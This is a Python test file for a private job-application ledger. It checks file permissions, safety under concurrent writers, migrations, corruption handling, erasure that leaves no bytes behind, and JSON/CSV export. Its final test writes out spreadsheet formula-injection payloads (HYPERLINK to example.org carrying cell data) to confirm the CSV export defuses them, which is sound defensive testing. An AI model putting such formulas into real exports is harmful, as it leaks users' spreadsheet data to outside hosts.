"""The ledger: private from its first moment, nothing committed lost, nothing forgotten left."""

import csv
import io
import json
import os
import random
import sqlite3
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant import database, ledger
from assistant.errors import UsageError
from assistant.ledger import Entry

MARCH = date(2026, 3, 2)
# A program that keeps entries and says the number of each once it is kept.
WRITER = """
import sys
from datetime import date
from pathlib import Path
from assistant.ledger import Entry, add, opened
folder, name, count = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3])
for number in range(count):
    with opened(folder, lambda note: print(note, file=sys.stderr)) as db:
        kept = add(db, Entry(0, date(2026, 3, 2), "", name, f"job {number}", letter="x" * (number % 7 * 1500)))
    print(kept.id, flush=True)
"""


def entry(company: str = "Krume Bakery", letter: str = "", sent: date = MARCH) -> Entry:
    return Entry(0, sent, "Renske Bakker", company, "Night Baker", letter=letter)


def silent(note: str) -> None:
    raise AssertionError(f"nothing was to be said, but: {note}")


def keep(folder: Path, *wanted: Entry) -> list[Entry]:
    with ledger.opened(folder, silent) as db:
        return [ledger.add(db, one) for one in wanted]


def kept(folder: Path) -> tuple[Entry, ...]:
    with ledger.opened(folder, silent) as db:
        return ledger.entries(db)


def writer(folder: Path, name: str, count: int) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-c", WRITER, str(folder), name, str(count)],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return tmp_path / "data" / "afternote"


@pytest.fixture
def open_to_all() -> Iterator[None]:
    """A umask that takes no right away."""
    old = os.umask(0)
    yield
    os.umask(old)


# What it holds


def test_an_entry_comes_back_as_it_was_kept(folder: Path) -> None:
    full = Entry(
        0,
        MARCH,
        "Renske",
        "Krume",
        "Baker",
        "ack",
        "Dear Renske,\n\n漢 😀\n",
        date(2026, 3, 9),
        "thanks",
        date(2026, 5, 1),
    )
    (made,) = keep(folder, full)
    assert made.id == 1
    assert kept(folder) == (made,)


def test_entries_stand_in_the_order_they_were_sent(folder: Path) -> None:
    keep(folder, entry("b", sent=date(2026, 4, 1)), entry("a"), entry("c", sent=date(2026, 4, 1)))
    assert [e.company for e in kept(folder)] == ["a", "b", "c"]


def test_what_came_back_is_kept_and_can_be_mended(folder: Path) -> None:
    keep(folder, entry())
    with ledger.opened(folder, silent) as db:
        ledger.done(db, 1, "a kind line", date(2026, 3, 9))
        ledger.done(db, 1, "two kind lines", date(2026, 3, 10))
    assert [(e.answer, e.answered_on) for e in kept(folder)] == [("two kind lines", date(2026, 3, 10))]


@pytest.mark.parametrize(
    ("number", "on", "message"),
    [
        (7, date(2026, 3, 9), "no entry 7"),
        (10**30, MARCH, "no entry 1000"),
        (1, date(2026, 3, 1), "sent on 2026-03-02"),
    ],
)
def test_an_answer_to_nothing_or_before_its_note_is_refused(folder: Path, number: int, on: date, message: str) -> None:
    keep(folder, entry())
    with ledger.opened(folder, silent) as db, pytest.raises(UsageError, match=message):
        ledger.done(db, number, "", on)
    assert kept(folder)[0].answered_on is None


def test_pasted_controls_and_half_characters_are_cleaned(folder: Path) -> None:
    keep(folder, entry("Kru\x1b[31mme \ud83d", "a\r\nb\x00\x07"))
    assert (kept(folder)[0].company, kept(folder)[0].letter) == ("Krume ?", "a\nb")


def test_of_a_time_only_the_day_is_kept(folder: Path) -> None:
    keep(folder, entry(sent=datetime(2026, 3, 2, 18, 30)))
    assert kept(folder)[0].sent_on == MARCH


# Only the user's


@pytest.mark.usefixtures("open_to_all")
def test_nobody_else_can_read_it_at_any_moment(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    make, made = os.open, []
    connect, seen = sqlite3.connect, []

    def watched_make(*options: Any) -> int:
        handle = make(*options)
        made.append(stat.S_IMODE(os.fstat(handle).st_mode))
        return handle

    def watched(path: Path, **options: Any) -> sqlite3.Connection:
        seen.append((mode(folder), mode(path), path.stat().st_size))
        return connect(path, **options)

    monkeypatch.setattr(os, "open", watched_make)
    monkeypatch.setattr(sqlite3, "connect", watched)
    with ledger.opened(folder, silent) as db:
        db.execute("BEGIN IMMEDIATE")
        ledger.add(db, entry(letter="private"))
        modes = {path.name: mode(path) for path in folder.iterdir()}
        db.execute("COMMIT")
    assert made == [0o600]
    assert seen == [(0o700, 0o600, 0)]  # SQLite found an empty file that was private already
    assert modes == {"ledger.sqlite": 0o600, "ledger.sqlite-journal": 0o600}


@pytest.mark.usefixtures("open_to_all")
def test_the_folder_is_never_made_wider_than_it_ends(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    mkdir, narrowed = os.mkdir, []

    def watched(path: Path, *options: Any) -> None:
        mkdir(path, *options)
        if Path(path) == folder:
            narrowed.append(mode(folder))

    monkeypatch.setattr(os, "mkdir", watched)
    keep(folder, entry())
    assert narrowed == [0o700]


def test_rights_that_were_too_wide_are_narrowed(folder: Path) -> None:
    keep(folder, entry())
    folder.chmod(0o755)
    (folder / ledger.FILE).chmod(0o644)
    kept(folder)
    assert (mode(folder), mode(folder / ledger.FILE)) == (0o700, 0o600)


# Several programs, and their sudden ends


def test_two_writers_at_once_lose_nothing(folder: Path) -> None:
    both = [writer(folder, name, 40) for name in ("one", "two")]
    said = [w.communicate(timeout=100) for w in both]
    assert [(w.returncode, err) for w, (_, err) in zip(both, said, strict=True)] == [(0, ""), (0, "")]
    numbers = [int(n) for out, _ in said for n in out.split()]
    assert sorted(numbers) == list(range(1, 81))
    found = {(e.company, e.job_title) for e in kept(folder)}
    assert found == {(name, f"job {n}") for name in ("one", "two") for n in range(40)}


def test_a_writer_waits_for_another_and_then_says_so(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    keep(folder, entry())
    monkeypatch.setattr(ledger, "PATIENCE", 0.05)
    holder = sqlite3.connect(folder / ledger.FILE, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    assert len(kept(folder)) == 1  # reading goes on
    with pytest.raises(UsageError, match="another program is using it"):
        keep(folder, entry())
    holder.execute("ROLLBACK")
    holder.close()
    assert keep(folder, entry())[0].id == 2


def test_a_killed_writer_loses_nothing_it_had_committed(folder: Path) -> None:
    chance = random.Random(7)
    committed: set[int] = set()
    for turn in range(20):
        process = writer(folder, f"turn {turn}", 100_000)
        assert process.stdout
        committed |= {int(process.stdout.readline()) for _ in range(chance.randint(1, 4))}
        time.sleep(chance.random() / 50)
        process.kill()
        out, err = process.communicate()
        committed |= {int(line) for line in out.splitlines(keepends=True) if line.endswith("\n")}
        assert err == ""
        numbers = [e.id for e in kept(folder)]  # and `silent` has nothing set aside
        assert committed <= {*numbers}
        assert len(numbers) - len(committed) <= turn + 1  # at most the one that was kept but not yet said, a turn
    assert len(committed) >= 20


# Versions


def test_an_empty_file_of_version_0_is_brought_up_to_date(folder: Path) -> None:
    folder.mkdir(parents=True)
    sqlite3.connect(folder / ledger.FILE).close()
    assert keep(folder, entry())[0].id == 1
    db = sqlite3.connect(folder / ledger.FILE)
    assert db.execute("PRAGMA user_version").fetchone() == (1,)
    db.close()


def test_entries_outlive_a_step_to_a_later_version(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = keep(folder, entry("old", "its letter"))
    monkeypatch.setattr(
        ledger, "STEPS", (*ledger.STEPS, "ALTER TABLE entry ADD COLUMN mood TEXT NOT NULL DEFAULT 'calm'")
    )
    with ledger.opened(folder, silent) as db:
        assert db.execute("PRAGMA user_version").fetchone() == (2,)
        assert db.execute("SELECT mood FROM entry").fetchall() == [("calm",)]
        assert list(ledger.entries(db)) == before


def test_a_step_that_fails_leaves_the_file_as_it_was(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = keep(folder, entry())
    released = ledger.STEPS
    monkeypatch.setattr(ledger, "STEPS", (*released, "DELETE FROM entry", "ALTER TABLE nowhere ADD COLUMN x"))
    with pytest.raises(UsageError, match="nowhere"):
        kept(folder)
    monkeypatch.setattr(ledger, "STEPS", released)
    assert list(kept(folder)) == before


def test_a_file_of_a_newer_version_is_left_alone(folder: Path) -> None:
    keep(folder, entry())
    db = sqlite3.connect(folder / ledger.FILE)
    db.execute("PRAGMA user_version = 99")
    db.close()
    before = (folder / ledger.FILE).read_bytes()
    with pytest.raises(UsageError, match="version 99: a newer afternote is needed"):
        keep(folder, entry())
    assert (folder / ledger.FILE).read_bytes() == before
    assert [p.name for p in folder.iterdir()] == [ledger.FILE]


# Damage, and disks


def set_aside_by(folder: Path) -> tuple[list[str], tuple[Entry, ...]]:
    notes: list[str] = []
    with ledger.opened(folder, notes.append) as db:
        return notes, ledger.entries(db)


@pytest.mark.parametrize("damage", ["other", "cut", "overwritten", "free list", "cell"])
def test_a_damaged_file_is_set_aside_and_named(folder: Path, damage: str) -> None:
    keep(folder, *(entry(letter=f"letter {n} " * 300) for n in range(9)))
    path = folder / ledger.FILE
    data = path.read_bytes()
    if damage == "other":
        path.write_text("no ledger at all, but something of the user's " * 99)
    elif damage == "cut":
        path.write_bytes(data[: len(data) // 2])
    elif damage == "overwritten":
        path.write_bytes(data[:9000] + b"\xff" * 9000 + data[18_000:])
    elif damage == "free list":
        path.write_bytes(data[:36] + b"\x00\x00\x00\x4d" + data[40:])
    else:
        path.write_bytes(data.replace(b"2026-03-02", b"2026-13-02", 1))
    broken = path.read_bytes()
    notes, entries = set_aside_by(folder)
    assert entries == ()
    (aside,) = ledger.set_aside(folder)
    assert aside.read_bytes() == broken
    assert mode(aside) == 0o600
    assert len(notes) == 1
    assert str(aside) in notes[0]
    keep(folder, entry("new"))
    assert [e.company for e in kept(folder)] == ["new"]


def test_files_set_aside_are_never_replaced(folder: Path) -> None:
    for turn in range(5):
        kept(folder)
        (folder / ledger.FILE).write_text(f"broken {turn} " * 200)
        set_aside_by(folder)
    assert sorted(p.read_text()[:8] for p in ledger.set_aside(folder)) == [f"broken {turn}" for turn in range(5)]


def test_a_new_ledger_that_another_program_began_is_not_set_aside(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kept(folder)
    (folder / ledger.FILE).write_text("broken " * 300)
    put_aside = database._put_aside

    def late(file: database.Database) -> Path | None:
        monkeypatch.setattr(database, "_put_aside", put_aside)
        set_aside_by(folder)
        keep(folder, entry("of the other program"))
        return put_aside(file)

    monkeypatch.setattr(database, "_put_aside", late)
    assert [e.company for e in kept(folder)] == ["of the other program"]
    assert len(ledger.set_aside(folder)) == 1


def test_only_one_program_at_a_time_sets_aside(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    kept(folder)
    (folder / ledger.FILE).write_text("broken " * 300)
    monkeypatch.setattr(ledger, "PATIENCE", 0.05)
    other = sqlite3.connect(folder / "ledger.lock", isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")
    with pytest.raises(UsageError, match="another program is using it"):
        set_aside_by(folder)
    assert ledger.set_aside(folder) == []
    other.close()
    assert len(set_aside_by(folder)[0]) == 1


def test_two_programs_that_find_the_damage_at_once_keep_both_their_entries(folder: Path) -> None:
    for turn in range(4):
        set_aside_by(folder)
        (folder / ledger.FILE).write_text("broken " * 300)
        both = [writer(folder, name, 3) for name in ("one", "two")]
        said = [w.communicate(timeout=60)[1] for w in both]
        assert sorted(bool(err) for err in said) == [False, True], said
        assert sorted(e.company for e in kept(folder)) == ["one"] * 3 + ["two"] * 3
        assert len(ledger.set_aside(folder)) == turn + 1


@settings(max_examples=60, deadline=None)
@given(data=st.data())
def test_whatever_is_broken_ends_in_a_ledger_or_one_clear_line(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    folder = tmp_path_factory.mktemp("fuzz") / "afternote"
    keep(folder, *(entry(letter=f"letter {n} " * 100) for n in range(4)))
    path = folder / ledger.FILE
    content = bytearray(path.read_bytes())
    for _ in range(data.draw(st.integers(1, 4))):
        start = data.draw(st.one_of(st.integers(0, 120), st.integers(0, len(content) - 1)))
        content[start : start + 8] = data.draw(st.binary(min_size=1, max_size=8))
    path.write_bytes(content)
    message = ""
    try:
        set_aside_by(folder)
    except UsageError as error:
        message = str(error)
    assert "\n" not in message
    assert (ledger.set_aside(folder) or [path])[0].read_bytes() == content  # whatever was left in it is still there


def test_a_full_disk_is_one_clear_error_and_loses_nothing(folder: Path) -> None:
    before = keep(folder, entry(letter="kept"))

    def add_too_much() -> None:
        with ledger.opened(folder, silent) as db:
            db.execute("PRAGMA max_page_count = 4")  # gives the very error of a full disk, SQLITE_FULL
            ledger.add(db, entry(letter="x" * 100_000))

    with pytest.raises(UsageError, match="the disk is full"):
        add_too_much()
    assert list(kept(folder)) == before


@pytest.mark.skipif(sys.platform == "win32", reason="no limit on the size of files there")
def test_a_disk_that_takes_no_more_bytes_loses_nothing(folder: Path) -> None:
    import resource

    before = keep(folder, entry(letter="kept"))
    size = (folder / ledger.FILE).stat().st_size
    process = subprocess.run(
        [sys.executable, "-c", WRITER, str(folder), "more", "9"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (size, size)),
    )
    assert process.returncode == 1
    assert process.stderr.rstrip().endswith(f"UsageError: the ledger {folder / ledger.FILE}: disk I/O error")
    assert [e for e in kept(folder) if e.company != "more"] == before
    assert len(kept(folder)) == len(before) + len(process.stdout.split())


def test_a_read_only_ledger_is_read_and_says_why_it_takes_nothing(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = keep(folder, entry())
    connect = sqlite3.connect
    # As on a medium that can't be written; the file's own rights don't stop a test that runs as root.
    monkeypatch.setattr(sqlite3, "connect", lambda path, **o: connect(f"{path.as_uri()}?mode=ro", uri=True, **o))
    assert list(kept(folder)) == before
    with pytest.raises(UsageError, match="can be read but not written"):
        keep(folder, entry())


@pytest.mark.parametrize("what", ["file in the way", "folder in its place"])
def test_a_place_that_can_hold_no_ledger_is_named(folder: Path, what: str) -> None:
    if what == "file in the way":
        folder.parent.mkdir()
        folder.write_text("")
    else:
        (folder / ledger.FILE).mkdir(parents=True)
    with pytest.raises(UsageError, match=r"afternote.ledger\.sqlite: \w+"):
        kept(folder)


# Forgetting


def bytes_in(folder: Path) -> bytes:
    return b"".join(path.read_bytes() for path in sorted(folder.iterdir()))


@pytest.mark.parametrize("size", [1, 40, 3000])
def test_what_is_forgotten_leaves_no_bytes(folder: Path, size: int) -> None:
    keep(folder, *(entry(f"firm{n:03}", f"secret{n:03} " * size) for n in range(30)))
    assert b"secret017" in bytes_in(folder)
    full = (folder / ledger.FILE).stat().st_size
    with ledger.opened(folder, silent) as db:
        ledger.forget(db, 18)
    assert b"secret017" not in bytes_in(folder)
    assert b"firm017" not in bytes_in(folder)
    assert size < 3000 or (folder / ledger.FILE).stat().st_size < full  # written anew, not only blanked
    assert [e.company for e in kept(folder)] == [f"firm{n:03}" for n in range(30) if n != 17]


def test_an_answer_that_was_replaced_leaves_no_bytes_once_its_entry_is_forgotten(folder: Path) -> None:
    keep(folder, entry("a"), entry("b"))
    with ledger.opened(folder, silent) as db:
        for answer in ("firstanswer " * 500, "secondanswer"):
            ledger.done(db, 1, answer, MARCH)
        ledger.forget(db, 1)
    assert b"firstanswer" not in bytes_in(folder)
    assert b"secondanswer" not in bytes_in(folder)


def test_a_number_is_never_given_twice(folder: Path) -> None:
    keep(folder, entry("a"), entry("b"))
    with ledger.opened(folder, silent) as db:
        ledger.forget(db, 2)
        with pytest.raises(UsageError, match="no entry 2"):
            ledger.forget(db, 2)
    assert keep(folder, entry("c"))[0].id == 3


def test_all_forgotten_leaves_nothing_not_even_how_many_or_what_was_set_aside(folder: Path) -> None:
    keep(folder, entry("damagedfirm"))
    (folder / ledger.FILE).write_bytes((folder / ledger.FILE).read_bytes()[:4096] + b"damagedfirm" * 999)
    set_aside_by(folder)
    keep(folder, *(entry("secretfirm", "secret " * n) for n in range(50)))
    size = (folder / ledger.FILE).stat().st_size
    with ledger.opened(folder, silent) as db:
        assert ledger.forget_all(db, folder) == 50
    assert kept(folder) == ()
    assert (folder / ledger.FILE).stat().st_size < size  # written anew, not only blanked
    assert ledger.set_aside(folder) == []
    assert b"secret" not in bytes_in(folder)
    assert b"damagedfirm" not in bytes_in(folder)
    assert keep(folder, entry())[0].id == 1


# Taking it along


def test_json_says_everything(folder: Path) -> None:
    (one,) = keep(folder, entry(letter="Dear Renske,\n漢"))
    assert json.loads(ledger.export([one], "json")) == [
        {
            "id": 1,
            "sent_on": "2026-03-02",
            "recipient": "Renske Bakker",
            "company": "Krume Bakery",
            "job_title": "Night Baker",
            "kind": "note",
            "letter": "Dear Renske,\n漢",
            "answered_on": None,
            "answer": "",
            "next_touch": None,
        }
    ]
    assert json.loads(ledger.export([], "json")) == []


def test_csv_reads_back_with_all_its_lines_and_quotes(folder: Path) -> None:
    letter = "Dear Renske,\n\n\"yes\", she said; 'no'\n"
    rows = list(csv.DictReader(io.StringIO(ledger.export([entry(letter=letter)], "csv"), newline="")))
    assert (rows[0]["letter"], rows[0]["sent_on"], rows[0]["answered_on"]) == (letter, "2026-03-02", "")
    assert ledger.export([], "csv").startswith("id,sent_on,recipient,")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", " =", "\t=", "\n@", "＝", "＠"])
def test_csv_runs_nothing_in_a_spreadsheet(start: str) -> None:
    bad = f'{start}HYPERLINK("https://example.org/?"&A1)'
    one = Entry(1, MARCH, bad, bad, bad, letter=bad, answer=bad)
    rows = list(csv.reader(io.StringIO(ledger.export([one], "csv"), newline="")))
    assert [cell for cell in rows[1] if "HYPERLINK" in cell] == [f"'{bad}"] * 5
